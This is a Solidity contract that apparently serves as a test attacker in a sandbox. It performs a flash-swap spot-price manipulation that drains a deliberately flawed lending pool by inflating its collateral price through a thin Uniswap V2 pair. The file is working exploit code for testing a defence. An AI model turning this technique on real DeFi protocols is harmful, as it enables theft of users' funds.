// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.36;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {LendingPool} from "./LendingPool.sol";
import {IUniswapV2Pair, amountOut, reservesOf, takeFrom} from "./UniswapV2.sol";

/// @title An attack on the sandbox's own lending pool
/// @notice FOR A LOCAL NODE ONLY. It exists to test the defence, and works against nothing but the
/// deliberately flawed `LendingPool` beside it.
/// @dev One `drain`: borrow the asset from the deep pair by a flash swap, buy up the thin pair's
/// collateral so that the pool's price soars, borrow against a little of it, sell the rest back,
/// return the loan with its fee, keep what is left.
contract SpotAttack {
    LendingPool private immutable _pool;
    IERC20 private immutable _asset;
    IERC20 private immutable _collateral;
    IUniswapV2Pair private immutable _deep;
    IUniswapV2Pair private immutable _thin;
    address private immutable _attacker = msg.sender;

    constructor(LendingPool pool, IUniswapV2Pair deep) {
        _pool = pool;
        _asset = pool.asset();
        _collateral = pool.collateral();
        _deep = deep;
        _thin = pool.pair();
        _collateral.approve(address(pool), type(uint256).max);
    }

    /// @param loan What to borrow from the deep pair to bend the thin one.
    /// @param loot What to borrow from the pool.
    function drain(uint256 loan, uint256 loot) external {
        require(msg.sender == _attacker);
        takeFrom(_deep, address(_asset), loan, address(this), abi.encode(loan, loot));
        _asset.transfer(_attacker, _asset.balanceOf(address(this)));
    }

    function uniswapV2Call(address sender, uint256, uint256, bytes calldata data) external {
        require(msg.sender == address(_deep) && sender == address(this));
        (uint256 loan, uint256 loot) = abi.decode(data, (uint256, uint256));
        uint256 bought = _swap(_asset, loan, _collateral);
        uint256 pledge = _lackingFor(loot);
        _pool.addCollateral(pledge);
        _pool.borrow(loot);
        _swap(_collateral, bought - pledge, _asset);
        _asset.transfer(address(_deep), loan * 1000 / 997 + 1);
    }

    /// @dev The collateral that all debts, with the new one, need at the bent price, and 1% more.
    function _lackingFor(uint256 loot) private view returns (uint256) {
        uint256 debt = _pool.debtOf(address(this)) + loot;
        uint256 needed = debt * 1e18 * 101 / (_pool.price() * _pool.LOAN_TO_VALUE());
        uint256 pledged = _pool.collateralOf(address(this));
        return needed > pledged ? needed - pledged : 0;
    }

    function _swap(IERC20 from, uint256 amount, IERC20 to) private returns (uint256 out) {
        (uint256 reserveFrom, uint256 reserveTo) = reservesOf(_thin, address(from));
        out = amountOut(amount, reserveFrom, reserveTo);
        from.transfer(address(_thin), amount);
        takeFrom(_thin, address(to), out, address(this), "");
    }
}
